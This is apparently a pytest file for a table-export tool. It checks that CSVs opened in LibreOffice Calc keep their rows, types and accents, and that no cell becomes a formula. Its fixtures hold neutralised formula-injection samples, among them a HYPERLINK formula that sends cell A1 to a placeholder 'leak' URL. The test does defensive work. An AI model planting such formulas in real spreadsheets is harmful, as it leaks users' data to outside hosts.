"""The tables in a real spreadsheet: LibreOffice Calc converts each CSV to xlsx (headless).

The sheets are read back from the xlsx XML: every table keeps its row count, no cell
became a formula (LibreOffice runs ``=1+1`` in a CSV as a formula), neutralised text stays
text, numbers and dates are typed, and accents survive. The import settings are those of
LibreOffice's Text Import dialog with *Unicode (UTF-8)* chosen.
"""

from __future__ import annotations

import shutil
import subprocess
import zipfile
from dataclasses import dataclass
from datetime import date, timedelta
from pathlib import Path
from xml.etree import ElementTree

import pytest
from conftest import require_tool
from rows import table_rows

from tda_export.factbase import FactBase
from tda_export.formats.tables.cells import cell
from tda_export.formats.tables.columns import TABLES
from tda_export.formats.tables.table import write_csv
from tda_export.validation import load_checked

pytestmark = pytest.mark.client
"""Every test here drives a real client (see README: the quick test path leaves them out)."""

HERE = Path(__file__).parent
SMALL = HERE / "fixtures" / "small" / "facts"
EXTRA = HERE / "fixtures" / "tables"
MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
#: Comma-separated, double quotes, UTF-8 (76), header from line 1.
CSV_IMPORT = "CSV:44,34,76,1"
EPOCH = date(1899, 12, 30)


@dataclass(frozen=True)
class Cell:
    """A cell of an xlsx sheet: ``s`` text or ``n`` number, and whether it is a formula."""

    kind: str
    value: str | float
    formula: bool


@pytest.fixture(scope="module")
def base(tmp_path_factory: pytest.TempPathFactory) -> FactBase:
    facts = tmp_path_factory.mktemp("tables") / "facts"
    shutil.copytree(SMALL, facts)
    for extra in EXTRA.glob("*.yaml"):
        shutil.copy(extra, facts)
    return load_checked(facts)


@pytest.fixture(scope="module")
def sheets(
    base: FactBase, tmp_path_factory: pytest.TempPathFactory
) -> dict[str, list[dict[int, Cell]]]:
    """Each table (and ``events-excel``, written with ``excel=True``) as LibreOffice reads it."""
    soffice = require_tool("soffice")
    folder = tmp_path_factory.mktemp("calc")
    names = [*TABLES, "events-excel"]
    for name in names:
        table = name.removesuffix("-excel")
        with open(folder / f"{name}.csv", "w", encoding="utf-8", newline="") as fobj:
            write_csv(base, fobj, table, excel=name.endswith("-excel"))
    profile = (folder / "profile").as_uri()  # its own profile: runs beside other soffice
    subprocess.run(
        [soffice, f"-env:UserInstallation={profile}", "--headless", f"--infilter={CSV_IMPORT}",
         "--convert-to", "xlsx", "--outdir", str(folder / "xlsx"),
         *(str(folder / f"{name}.csv") for name in names)],
        check=True, capture_output=True, timeout=300,
    )  # fmt: skip
    return {name: read_sheet(folder / "xlsx" / f"{name}.xlsx") for name in names}


def read_sheet(path: Path) -> list[dict[int, Cell]]:
    """The rows of the first sheet: column index (from 0) to cell; empty cells are absent."""
    with zipfile.ZipFile(path) as book:
        names = book.namelist()
        shared = (
            ElementTree.fromstring(book.read("xl/sharedStrings.xml"))
            if "xl/sharedStrings.xml" in names
            else None
        )
        sheet = ElementTree.fromstring(book.read("xl/worksheets/sheet1.xml"))
    strings = (
        ["".join(t.text or "" for t in si.iter(f"{MAIN}t")) for si in shared.iter(f"{MAIN}si")]
        if shared is not None
        else []
    )
    rows = []
    for row in sheet.iter(f"{MAIN}row"):
        cells = {}
        for c in row.iter(f"{MAIN}c"):
            letters = "".join(ch for ch in c.get("r", "") if ch.isalpha())
            index = 0
            for ch in letters:
                index = index * 26 + ord(ch) - ord("A") + 1
            raw = c.find(f"{MAIN}v")
            text = raw.text or "" if raw is not None else ""
            formula = c.find(f"{MAIN}f") is not None
            if c.get("t") == "s":
                cells[index - 1] = Cell("s", strings[int(text)], formula)
            elif c.get("t") in ("n", None):
                cells[index - 1] = Cell("n", float(text), formula)
            else:
                cells[index - 1] = Cell(c.get("t", ""), text, formula)
        rows.append(cells)
    return rows


def line_breaks(text: str) -> str:
    """Text as a spreadsheet cell holds it: LibreOffice turns CR and CRLF into LF."""
    return text.replace("\r\n", "\n").replace("\r", "\n")


@pytest.mark.parametrize("name", TABLES)
def test_every_row_arrives(
    sheets: dict[str, list[dict[int, Cell]]], base: FactBase, name: str
) -> None:
    rows = sheets[name]
    header = [rows[0][i].value for i in range(len(rows[0]))]
    assert header == TABLES[name].header
    assert len(rows) == 1 + sum(1 for _ in table_rows(base, name))


def test_no_cell_is_a_formula(sheets: dict[str, list[dict[int, Cell]]]) -> None:
    formulas = [
        (name, number, c.value)
        for name, rows in sheets.items()
        for number, row in enumerate(rows, start=1)
        for c in row.values()
        if c.formula
    ]
    assert formulas == []


@pytest.mark.parametrize("name", TABLES)
def test_cells_keep_their_values_and_types(
    sheets: dict[str, list[dict[int, Cell]]], base: FactBase, name: str
) -> None:
    columns = TABLES[name].columns
    for row, got in zip(table_rows(base, name), sheets[name][1:], strict=True):
        for index, column in enumerate(columns):
            value = row[column.name]
            if value is None or value == []:
                assert index not in got, (row["id"], column.name)
            elif column.type in ("number", "integer"):
                assert got[index] == Cell("n", value, False), (row["id"], column.name)
            elif column.type == "date":
                assert got[index].kind == "n", (row["id"], column.name)
                assert isinstance(value, date)
                assert EPOCH + timedelta(days=got[index].value) == value
            elif (text := cell(value)).startswith("'"):
                # neutralised: LibreOffice keeps the text, apostrophe included
                assert got[index] == Cell("s", line_breaks(text), False), (row["id"], column.name)


def test_hostile_text_and_accents(sheets: dict[str, list[dict[int, Cell]]]) -> None:
    def by_id(name: str) -> dict[str, dict[str, str | float]]:
        header = TABLES[name].header
        return {
            str(row[0].value): {header[i]: c.value for i, c in row.items()}
            for row in sheets[name][1:]
        }

    events = by_id("events")
    assert (
        events["formula-title"]["title"]
        == '\'=HYPERLINK("http://example.invalid/?leak="&A1,"Click")'
    )
    assert events["formula-title"]["note"] == "'@SUM(1+1)"
    assert events["until-2025"]["title"] == "''=apostrophe then equals"
    actors = by_id("actors")
    assert actors["formula-actor"]["name"] == "'-El Malo"
    assert actors["hector-guerrero"]["name"] == "Héctor Guerrero Flores"
    assert by_id("places")["guiria"]["name"] == "Güiria"
    figures = by_id("figures")
    assert figures["negative-figure"]["value"] == -12.5
    assert figures["negative-figure"]["label"] == "'-12.5 net change"
    citations = by_id("citations")
    assert citations["formula-title#1"]["quote"] == "'\tTab-led quote, not in the archive"


def test_excel_variant_reads_the_same(sheets: dict[str, list[dict[int, Cell]]]) -> None:
    assert sheets["events-excel"] == sheets["events"]
